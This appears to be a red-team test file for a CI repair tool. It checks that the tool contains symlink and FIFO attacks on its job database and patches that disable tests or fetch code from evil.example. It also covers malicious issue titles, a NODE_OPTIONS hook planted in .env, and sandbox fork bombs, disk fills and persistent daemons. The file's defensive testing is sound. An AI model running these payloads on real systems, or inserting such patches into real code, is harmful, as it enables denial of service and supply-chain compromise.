/**
 * Host-side steps of the twenty-fourth red team's cases, run in a process of their own
 * (`tsx redteam24-step.ts <dir> <id>…`) so a case that holds the host can be killed and measured.
 * Waves 1–23 went to installs, lockfiles, git, parsers, patches, model answers, format characters, caches, clocks,
 * webhook bytes, look-alike names, what the host unpacks, the App's final gate, text a maintainer reads and the job
 * database's journal and lock; this one goes to the other files beside the job database (its journal, snapshot
 * temporary and database file as links or FIFOs, two takeovers of one stale lock at once), files a returned patch
 * may add or change that decide what a test run runs past the policy's lists (`.pytest.ini`, `pytest.toml`,
 * `.pnpmfile.cjs`, `bunfig.toml`, `setup.cfg` pytest11 entry points, `.taprc`, Makefile/justfile recipes, `deno.json`,
 * `.cargo/config.toml` aliases, `phpunit.xml`, `.rspec`, `packageManager` URLs, `[tool.uv.sources]`), an issue's title
 * in what the App writes, command floods in one comment, a repository's `.env`/`.npmrc` beside a CLI run, and a
 * sandbox run that fork-bombs, balloons memory, fills its disk, opens every file and leaves a daemon behind (real
 * engine). The wave-23 open classes run here too (known, outside the first-try figure).
 * One JSON line per case: `{ id, cpuMs, outcome, contained }`.
 */
import { execFileSync, spawn, spawnSync } from "node:child_process";
import { randomUUID } from "node:crypto";
import { existsSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { hostname } from "node:os";
import path from "node:path";
import { openSqliteJobStore } from "../../../src/app/job-store.ts";
import { createFsWorkspace } from "../../../src/git/fs-workspace.ts";
import { createLogParser } from "../../../src/logs/index.ts";
import { gateTreeNames } from "../../../src/fix/gate-tree.ts";
import { evaluatePatch } from "../../../src/policy/index.ts";
import { createDockerSandbox } from "../../../src/sandbox/docker.ts";
import { sandboxImage } from "../../support/docker.ts";
import { example, postWebhook } from "../../e2e/support/app-harness.ts";
import { short } from "./patch-step.ts";
import { actsOnGitHub } from "./rendered-markdown.ts";
import { appRun, jobRecord, type Outcome, ok, runStepCases, writeTree } from "./wave-step.ts";

const [root, ...ids] = process.argv.slice(2) as [string, ...string[]];
let dir = root;
const MARKER = process.env.RETRACE_RT24_MARKER ?? "/var/tmp/retrace-rt24-marker";
const REPO = path.resolve(path.dirname(new URL(import.meta.url).pathname), "../../..");
const HERE = new URL(import.meta.url).pathname;
const BIDI = ["\u202e", "\u2066", "\u2067", "\u2069", "\u200b", "\u061c"];
const MiB = 1 << 20;

// ---- The files beside the job database.

/** A file outside Retrace's directories that a local user links a job-database file to. */
function victim(): { file: string; text: string; untouched: () => boolean } {
  const file = path.join(dir, "victim.txt");
  const text = "the operator's file\n";
  writeFileSync(file, text);
  return { file, text, untouched: () => readFileSync(file, "utf8") === text };
}

/** Opens the store at `db`, records one job and closes it (a snapshot); contained when the victim is untouched. */
async function storeBeside(db: string, v: ReturnType<typeof victim>): Promise<Outcome> {
  let note = "opened, one job recorded, closed";
  try {
    const store = await openSqliteJobStore(db);
    store.insert(jobRecord("job-24") as never);
    store.close();
  } catch (e) {
    note = `refused: ${short((e as Error).message, 160)}`;
  }
  return ok(
    v.untouched()
      ? `${note}; the linked file is untouched`
      : `${note}; the linked file was written: ${JSON.stringify(short(readFileSync(v.file, "latin1"), 60))}`,
    v.untouched(),
  );
}

/**
 * Runs `inner` (a hidden case of this file) in a child process with a wall limit: for steps that may block. The limit
 * is wide (a loaded host starts tsx slowly, the wave test runs cases side by side); the verdict is the child's answer.
 */
function inChild(inner: string, wallMs: number): { status: number | null; out: string; ms: number } {
  const t = Date.now();
  const r = spawnSync(process.execPath, [...process.execArgv, HERE, dir, inner], {
    cwd: dir,
    env: process.env,
    encoding: "utf8",
    timeout: wallMs,
    killSignal: "SIGKILL",
  });
  return { status: r.status, out: `${r.stdout ?? ""}${r.stderr ?? ""}`.trim(), ms: Date.now() - t };
}

// ---- The policy gate on files that decide what a test run runs.

const newFile = (name: string, text: string) => {
  const lines = text.replace(/\n$/, "").split("\n");
  return `diff --git a/${name} b/${name}\nnew file mode 100644\n--- /dev/null\n+++ b/${name}\n@@ -0,0 +1,${lines.length} @@\n${lines.map((l) => `+${l}`).join("\n")}\n`;
};
const changed = (name: string, before: string[], after: string[], context: string[] = []) =>
  `diff --git a/${name} b/${name}\n--- a/${name}\n+++ b/${name}\n@@ -1,${context.length + before.length} +1,${context.length + after.length} @@\n${context.map((l) => ` ${l}`).join("\n")}${context.length ? "\n" : ""}${before.map((l) => `-${l}`).join("\n")}\n${after.map((l) => `+${l}`).join("\n")}\n`;

/** Contained when the gate refuses `patch` (it changes what the failing test's run runs or installs). */
function gateRefuses(patch: string): Outcome {
  const r = evaluatePatch(patch);
  return ok(
    r.allowed
      ? "the gate allowed it"
      : `refused: ${r.violations.map((v) => `${v.rule} (${short(v.message, 80)})`).join("; ")}`,
    !r.allowed,
  );
}

// ---- The App on webhooks (wave-step.ts's appRun).

function comment(body: string, id = 4242, title?: string) {
  const p = example("issue_comment", "created");
  p.comment.id = id;
  p.comment.body = body;
  p.comment.user = { login: "Codertocat", type: "User" };
  p.sender = { login: "Codertocat", type: "User" };
  if (title !== undefined) p.issue.title = title;
  return p;
}

/** Contained when no hidden character reaches the written text raw and it acts on nothing on GitHub. */
function readsPlain(text: string): Outcome {
  const raw = BIDI.filter((c) => text.includes(c));
  const acts = actsOnGitHub(text.replace(/<!-- retrace:job:[\w.-]+ -->/g, ""));
  return ok(
    raw.length || acts.length
      ? `written raw: ${raw.map((c) => `U+${c.codePointAt(0)!.toString(16).toUpperCase()}`).join(", ")} ${acts.join(", ")}: ${JSON.stringify(short(text, 200))}`
      : `shown plainly (${text.length} chars)`,
    raw.length === 0 && acts.length === 0,
  );
}

const BIDI_TITLE = "crash in \u202egnp.exe\u202c \u2066x\u2069";
const MENTION_TITLE = "crash @octo-org/security ![t](https://evil.example/p.png) fixes #1 <details>";
/** The trigger line names the commenter (`/repro` by @Codertocat): Retrace's own mention, not the attacker's. */
const withoutActor = (text: string) => text.replaceAll("by @Codertocat", "by Codertocat");

// ---- The sandbox (real engine).

async function sandboxRun(jobId: string, script: string, timeoutMs = 40_000) {
  const before = process.memoryUsage().rss;
  const t = Date.now();
  const r = await createDockerSandbox({ image: sandboxImage }).run({
    jobId,
    command: ["sh", "-c", script],
    env: { PATH: "/usr/local/bin:/usr/bin:/bin" },
    limits: { timeoutMs },
  } as never);
  return {
    r,
    ms: Date.now() - t,
    grewMb: Math.round((process.memoryUsage().rss - before) / MiB),
    left: execFileSync("docker", ["ps", "-aq", "--filter", `label=dev.retrace.job=${jobId}`], {
      encoding: "utf8",
    }).trim(),
  };
}

function parse(text: string) {
  const parser = createLogParser();
  for (let at = 0; at < text.length; at += 16_384) parser.write(text.slice(at, at + 16_384));
  return parser.end();
}

const cases: Record<string, () => Promise<Outcome> | Outcome> = {
  // Files beside the job database that a local user planted as links or FIFOs.
  "jobstore-journal-is-link-to-victim": async () => {
    const v = victim();
    const db = path.join(dir, "jobs.sqlite");
    symlinkSync(v.file, `${db}.journal`);
    return storeBeside(db, v);
  },
  "jobstore-snapshot-temp-is-link-to-victim": async () => {
    const v = victim();
    const db = path.join(dir, "jobs.sqlite");
    // The snapshot's temporary is `<db>.tmp-<pid>`: a pid is easy to guess (here: this process's).
    symlinkSync(v.file, `${db}.tmp-${process.pid}`);
    return storeBeside(db, v);
  },
  "jobstore-database-is-link-to-victim": async () => {
    const v = victim();
    const db = path.join(dir, "jobs.sqlite");
    symlinkSync(v.file, db);
    return storeBeside(db, v);
  },
  "jobstore-journal-is-fifo": () => {
    const db = path.join(dir, "jobs.sqlite");
    execFileSync("mkfifo", [`${db}.journal`]);
    const r = inChild("inner-open-store", 90_000);
    return ok(
      r.status === null
        ? `opening the store blocked on the FIFO until it was killed after ${r.ms} ms`
        : `exit ${r.status} in ${r.ms} ms: ${short(r.out, 200)}`,
      r.status !== null && /not a plain file/.test(r.out),
    );
  },
  "jobstore-lock-is-fifo": () => {
    const db = path.join(dir, "jobs.sqlite");
    execFileSync("mkfifo", [`${db}.lock`]);
    const r = inChild("inner-open-store", 90_000);
    return ok(
      r.status === null
        ? `opening the store blocked on the FIFO lock until killed after ${r.ms} ms`
        : `exit ${r.status} in ${r.ms} ms: ${short(r.out, 200)}`,
      r.status !== null && /not a plain file/.test(r.out),
    );
  },
  "inner-open-store": async () => {
    try {
      const store = await openSqliteJobStore(path.join(dir, "..", "jobs.sqlite"));
      store.close();
      return ok("opened");
    } catch (e) {
      return ok(`refused: ${(e as Error).message}`);
    }
  },
  // Known (wave 23 open c): two Apps take over one stale lock at the same instant.
  "jobstore-two-takeovers-at-once": async () => {
    const db = path.join(dir, "jobs.sqlite");
    writeFileSync(`${db}.lock`, `${4_000_000 - 11} ${hostname()}`);
    const go = Date.now() + 8_000;
    const kids = [0, 1, 2, 3, 4, 5].map(
      () =>
        new Promise<string>((resolve) => {
          const c = spawn(process.execPath, [...process.execArgv, HERE, dir, "inner-take-at"], {
            cwd: dir,
            env: { ...process.env, RT24_AT: String(go) },
          });
          let out = "";
          c.stdout.on("data", (d) => (out += d));
          c.on("close", () => resolve(out));
        }),
    );
    const outs = await Promise.all(kids);
    const opened = outs.filter((o) => /"outcome":"held the store/.test(o)).length;
    return ok(
      `${opened} of 6 Apps opened the database at once: ${outs.map((o) => short(JSON.parse(o.trim().split("\n").pop() ?? "{}").outcome ?? o, 90)).join(" | ")}`,
      opened === 1,
    );
  },
  "inner-take-at": async () => {
    const at = Number(process.env.RT24_AT);
    while (Date.now() < at) await new Promise((r) => setTimeout(r, 1));
    try {
      const store = await openSqliteJobStore(path.join(dir, "..", "jobs.sqlite"));
      await new Promise((r) => setTimeout(r, 8_000)); // held past every other start
      store.close();
      return ok("held the store");
    } catch (e) {
      return ok(`refused: ${(e as Error).message}`);
    }
  },
  // Files and keys a returned patch may add or change that decide what the test run runs.
  "patch-new-dot-pytest-ini": () =>
    gateRefuses(newFile(".pytest.ini", "[pytest]\naddopts = --deselect tests/test_auth.py::test_denies\n")),
  "patch-new-pytest-toml": () =>
    gateRefuses(
      newFile("pytest.toml", '[pytest]\naddopts = ["--deselect", "tests/test_auth.py::test_denies"]\n'),
    ),
  "patch-new-pnpmfile-cjs": () =>
    gateRefuses(
      newFile(
        ".pnpmfile.cjs",
        "module.exports = { hooks: { readPackage(p) { p.dependencies = {}; return p; } } };\n",
      ),
    ),
  "patch-new-bunfig-preload": () =>
    gateRefuses(newFile("bunfig.toml", '[test]\npreload = ["./src/pass-everything.ts"]\n')),
  "patch-setup-cfg-pytest11-entry-point": () =>
    gateRefuses(
      changed(
        "setup.cfg",
        ["name = app"],
        ["name = app", "", "[options.entry_points]", "pytest11 =", "    quiet = app.quiet"],
        ["[metadata]"],
      ),
    ),
  "patch-new-taprc": () => gateRefuses(newFile(".taprc", "exclude:\n  - test/auth.test.js\n")),
  "patch-makefile-test-recipe": () =>
    gateRefuses(changed("Makefile", ["\tpytest tests"], ["\ttrue"], ["test:"])),
  "patch-justfile-test-recipe": () =>
    gateRefuses(changed("justfile", ["    pytest tests"], ["    true"], ["test:"])),
  "patch-deno-json-test-exclude": () =>
    gateRefuses(newFile("deno.json", '{ "test": { "exclude": ["src/auth_test.ts"] } }\n')),
  "patch-cargo-config-test-alias": () =>
    gateRefuses(newFile(".cargo/config.toml", '[alias]\ntest = "check"\n')),
  "patch-new-phpunit-xml": () =>
    gateRefuses(
      newFile(
        "phpunit.xml",
        '<phpunit><testsuites><testsuite name="u"><directory>src/none</directory></testsuite></testsuites></phpunit>\n',
      ),
    ),
  "patch-new-rspec-options": () => gateRefuses(newFile(".rspec", "--exclude-pattern spec/auth_spec.rb\n")),
  "patch-package-json-package-manager-url": () =>
    gateRefuses(
      changed(
        "package.json",
        ['  "name": "app"'],
        ['  "name": "app",', '  "packageManager": "yarn@https://evil.example/yarn-4.0.0.cjs"'],
        ["{"],
      ),
    ),
  "patch-pyproject-uv-sources-git": () =>
    gateRefuses(
      changed(
        "pyproject.toml",
        ['name = "app"'],
        ['name = "app"', "", "[tool.uv.sources]", 'requests = { git = "https://evil.example/requests" }'],
        ["[project]"],
      ),
    ),
  "patch-package-json-scripts-test-true": () =>
    gateRefuses(
      changed(
        "package.json",
        ['  "scripts": { "test": "jest" }'],
        ['  "scripts": { "test": "true" }'],
        ["{"],
      ),
    ),
  // Known (wave 23 open a): a twin whose original lies past the names the pipeline lists for its gate.
  "patch-twin-past-the-gate-tree-cap": async () => {
    const r = path.join(dir, "repo");
    execFileSync("python3", [
      "-c",
      `import os\nr=${JSON.stringify(r)}\nos.makedirs(r+"/a",exist_ok=True)\nos.makedirs(r+"/src",exist_ok=True)\nfor i in range(100001):\n  open(r+"/a/f%06d"%i,"w").close()\nopen(r+"/src/auth.js","w").write("x\\n")`,
    ]);
    const ws = await createFsWorkspace(r);
    const patch = newFile("src/Auth.js", "module.exports = 1;");
    // The names the gate of `verify` (and of fix's verification, before any apply) is given with the patch.
    const treeFiles = await gateTreeNames(ws, patch);
    const g = evaluatePatch(patch, {}, { treeFiles });
    return ok(
      g.allowed
        ? `the gate (given the ${treeFiles.length} names the pipeline lists) allowed src/Auth.js beside src/auth.js`
        : `refused: ${short(g.violations.map((v) => v.message).join("; "), 200)}`,
      !g.allowed,
    );
  },
  // What the App writes about an issue whose title holds hidden characters or mentions.
  "app-issue-title-bidi-in-what-the-app-writes": async () => {
    const r = await appRun(
      dir,
      async (app) => [await postWebhook(app, "issue_comment", comment("/repro", 901, BIDI_TITLE))],
      BIDI_TITLE,
    );
    return readsPlain(withoutActor(r.written));
  },
  "app-issue-title-mention-image-in-what-the-app-writes": async () => {
    const r = await appRun(
      dir,
      async (app) => [await postWebhook(app, "issue_comment", comment("/repro", 902, MENTION_TITLE))],
      MENTION_TITLE,
    );
    return readsPlain(withoutActor(r.written));
  },
  "app-comment-10000-command-lines": async () => {
    const r = await appRun(dir, async (app) => [
      await postWebhook(app, "issue_comment", comment(Array(10_000).fill("/repro").join("\n"), 903)),
    ]);
    return ok(`${r.jobs} job(s) for one comment of 10,000 /repro lines (${r.statuses})`, r.jobs <= 1);
  },
  "app-command-with-1mib-tail": async () => {
    const r = await appRun(dir, async (app) => [
      await postWebhook(app, "issue_comment", comment(`/repro ${"please ".repeat(MiB / 7)}`, 904)),
    ]);
    return ok(
      `${r.jobs} job(s), largest job record ${r.recordBytes} bytes, ${r.written.length} chars written (${r.statuses})`,
      r.jobs <= 1 && r.recordBytes < 64 * 1024 && r.written.length < 256 * 1024,
    );
  },
  // A repository's environment files beside a CLI run on it.
  "cli-dotenv-and-npmrc-node-options-in-cwd": () => {
    const hook = path.join(dir, "hook.cjs");
    writeFileSync(hook, `require("fs").writeFileSync(${JSON.stringify(MARKER)}, "ran");\n`);
    const r = writeTree(path.join(dir, "repo"), {
      ".env": `NODE_OPTIONS=--require ${hook}\nRETRACE_HOST_LIMITS=parseTimeMs=999999\n`,
      ".npmrc": `node-options=--require ${hook}\n`,
      "package.json": '{ "name": "x", "version": "1.0.0" }\n',
      "ci.log": "FAILED tests/test_a.py::test_x - assert 1 == 2\n== 1 failed in 0.1s ==\n",
    });
    let out: string;
    try {
      out = execFileSync(process.execPath, [path.join(REPO, "bin/retrace.mjs"), "parse-log", "ci.log"], {
        cwd: r,
        env: { ...process.env, RETRACE_CLI_FROM_SOURCE: "1" },
        encoding: "utf8",
        timeout: 60_000,
      });
    } catch (e) {
      out = `exit ${(e as { status?: number }).status}: ${(e as { stderr?: string }).stderr ?? ""}`;
    }
    const ran = existsSync(MARKER);
    return ok(`${ran ? "the hook ran on the host" : "no hook ran"}; ${short(out, 120)}`, !ran);
  },
  // Known (wave 22/23 open b): an 8 MiB test name.
  "log-8mib-test-name-id-bound": () => {
    const r = parse(
      `FAILED tests/test_a.py::test_${"n".repeat(8 * MiB)} - assert 1 == 2\n=== 1 failed in 0.1s ===\n`,
    );
    const lens = r.failures.map((f) => (f.test ?? "").length);
    return ok(
      `${r.failures.length} failure(s), id lengths ${JSON.stringify(lens)}`,
      lens.every((n) => n <= 4096),
    );
  },
  // The sandbox: processes, memory, disk, files and daemons.
  "sandbox-fork-bomb": async () => {
    const s = await sandboxRun("rt24-forkbomb", "b() { b | b & }; b; sleep 5; echo survived", 30_000);
    return ok(
      `exit ${s.r.exitCode}, ${s.ms} ms, host RSS +${s.grewMb} MiB, containers left: ${s.left || "none"}`,
      s.ms < 60_000 && s.grewMb < 512 && s.left === "",
    );
  },
  "sandbox-memory-balloon": async () => {
    const s = await sandboxRun("rt24-balloon", "python3 -c 'x=bytearray(8*1024**3); print(len(x))'");
    return ok(
      `exit ${s.r.exitCode}, ${short(s.r.stderr, 80)} ${s.ms} ms, host RSS +${s.grewMb} MiB`,
      s.r.exitCode !== 0 && s.left === "",
    );
  },
  "sandbox-disk-fill": async () => {
    const s = await sandboxRun(
      "rt24-diskfill",
      "for d in /tmp /workspace /var/tmp /dev/shm /run; do dd if=/dev/zero of=$d/fill bs=1M count=2048 2>&1 | tail -1; done; echo end",
    );
    const wrote = [...s.r.stdout.matchAll(/(\d+) bytes/g)].map((m) => Number(m[1]));
    return ok(
      `wrote ${JSON.stringify(wrote.map((b) => Math.round(b / MiB)))} MiB; exit ${s.r.exitCode}, ${s.ms} ms`,
      wrote.every((b) => b < 1024 * MiB) && s.left === "",
    );
  },
  "sandbox-open-every-file": async () => {
    const s = await sandboxRun(
      "rt24-nofile",
      "python3 -c \"\nimport os\nfs=[]\ntry:\n  while True: fs.append(os.open('/dev/null', os.O_RDONLY))\nexcept OSError as e: print(len(fs), e)\"",
    );
    const n = Number(/^(\d+)/.exec(s.r.stdout.trim())?.[1] ?? -1);
    return ok(
      `opened ${n} files before refused; exit ${s.r.exitCode}`,
      n >= 0 && n < 1_000_000 && s.left === "",
    );
  },
  "sandbox-daemon-outlives-run": async () => {
    const s = await sandboxRun(
      "rt24-daemon",
      "(setsid sh -c 'trap \"\" TERM HUP; while :; do sleep 1; done' </dev/null >/dev/null 2>&1 &); echo started",
    );
    return ok(
      `exit ${s.r.exitCode}, ${s.ms} ms, containers left: ${s.left || "none"}`,
      s.left === "" && s.ms < 40_000,
    );
  },
};

const inner = new Set(["inner-open-store", "inner-take-at"]);
const visible = Object.fromEntries(
  Object.entries(cases).filter(([id]) => !inner.has(id) || ids.includes(id)),
);
runStepCases(ids.length ? cases : visible, root, ids, (d) => {
  dir = d;
  process.chdir(d);
}).then(() => process.exit(0));
void randomUUID;
